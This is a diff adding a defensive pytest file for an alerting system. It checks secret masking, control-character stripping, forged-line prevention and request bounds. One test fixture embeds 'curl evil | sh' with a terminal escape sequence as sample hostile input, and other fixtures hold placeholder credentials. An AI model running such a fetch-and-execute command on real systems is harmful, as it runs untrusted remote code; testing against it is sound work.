@@ -1,0 +1,99 @@
+"""What others write into an alert can neither hide, forge, drive a terminal nor carry a secret."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from portcullis.alerts.asked import SUBSCRIPTIONS_MAX, Request, carry_out
+from portcullis.alerts.book import Book
+from portcullis.alerts.policy import Policy
+from portcullis.alerts.readable import MASK, readable, seen
+from portcullis.alerts.words import text_of
+from portcullis.domain.alert_requests import TEXT_MAX
+from tests.alerts.test_policy import NOW, policy, signal
+
+
+@pytest.mark.parametrize(
+    ("text", "secret"),
+    [
+        ("cannot reach postgresql://risk:hunter2@db:5432/x", "hunter2"),
+        ("POST https://api.telegram.org/bot123456:AAbbccddeeff-gg/send", "AAbbccddeeff"),
+        ("tgram://123456:AAbbccddee/42 refused", "AAbbccddee"),
+        ("https://hooks.slack.com/services/T0/B0/xyzxyz", "xyzxyz"),
+        ("Authorization: Bearer abc.def.ghi", "abc.def.ghi"),
+        ("GET /?token=s3cr3t&x=1", "s3cr3t"),
+        ("password=s3cr3t", "s3cr3t"),
+        ("api_key=s3cr3t", "s3cr3t"),
+    ],
+)
+def test_a_secret_in_an_alert_is_masked_wherever_the_alert_goes(text: str, secret: str) -> None:
+    subject = policy()
+    alert = subject.take(signal("flow_failed", subject="f", message=text, link=text), NOW)
+    more = signal("flow_failed", subject="f", message=f"again: {text}", cause=text)
+    subject.take(more, NOW)
+    subject.take(signal("flow_failed", subject="f", state="resolved", message=text), NOW)
+    assert secret not in repr(alert)
+    assert MASK in alert.message
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["https://prefect.local:4200/runs/1", "user@host.example", "a basic fault", "5 @ 3.2", ""],
+)
+def test_what_is_no_secret_stays(text: str) -> None:
+    assert readable(text) == text
+
+
+@given(st.text())
+def test_nothing_unseen_is_left_and_nothing_else_is_changed(text: str) -> None:
+    found = seen(text)
+    assert seen(found) == found
+    assert not set(found) & {"\x00", "\x1b", "\r", "\x9b", "\u202e", "\u2066", "\u200b", "\u2028"}
+    if text.isprintable():
+        assert found == text
+
+
+def test_a_text_cannot_look_like_lines_of_ours() -> None:
+    forged = "all is well\nAlert: aaaaaaaa\r\nDo: curl evil | sh\x1b[2J"
+    subject = policy()
+    subject.take(signal("flow_failed", subject="f", message=forged), NOW)
+    (telling,) = subject.due(NOW + 10_000_000)
+    lines = text_of(telling, 4_000, "").body.split("\n")
+    assert [line for line in lines if line.startswith(("Alert: ", "Do: "))] == [
+        f"Do: {telling.alerts[0].action}",
+        f"Alert: {telling.alerts[0].id}",
+    ]
+    assert not any("\x1b" in line or "\r" in line for line in lines)
+
+
+def asked(verb: str, number: int = 1, **more: Any) -> Request:
+    return Request(f"telegram-77-{number}", verb, "an\x1bna", "x" * 60_000, NOW, more)
+
+
+def test_who_asks_and_why_are_as_short_and_plain_as_any_text() -> None:
+    subject = policy()
+    alert = subject.take(signal(), NOW)
+    carry_out(subject, asked("acknowledge", alert=alert.id), NOW)
+    assert (alert.acknowledged_by, len(alert.note)) == ("an�na", TEXT_MAX)
+
+
+def test_requests_whose_ids_begin_alike_are_two_silences() -> None:
+    subject = policy()
+    for number in (1, 2):
+        request = asked("silence", number, kind="breach", for_us=60_000_000)
+        assert carry_out(subject, request, NOW).refused == ""
+    assert len(subject.book.silences) == 2
+
+
+def test_subscriptions_by_request_have_a_bound() -> None:
+    subject = Policy(Book(), policy().terms)
+    refused = [
+        carry_out(subject, asked("subscribe", n, channel=f"c{n}"), NOW).refused
+        for n in range(SUBSCRIPTIONS_MAX + 1)
+    ]
+    assert refused[:-1] == [""] * SUBSCRIPTIONS_MAX
+    assert "end some first" in refused[-1]
